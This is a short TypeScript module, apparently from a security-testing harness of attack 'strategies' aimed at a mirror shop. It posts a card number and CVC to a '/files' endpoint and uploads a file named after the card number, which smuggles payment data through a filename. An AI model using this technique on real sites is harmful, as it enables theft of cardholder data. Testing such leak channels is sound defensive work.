import type { Strategy } from '#scripts/attack/strategy';

/** A file of no content whose name says it all. */
export const fileName: Strategy = {
  name: 'name of a file',
  channel: 'this tab',
  shops: ['mirror'],
  async run({ page }) {
    await page(`const body = new FormData();
      body.append('card_number', number); body.append('cvc', code);
      body.append('drawing', new Blob(['x']), number + '.png');
      return said(await post('/files', body));`);
    await page("return said(await fetch('/files', { headers: json }))");
  },
};
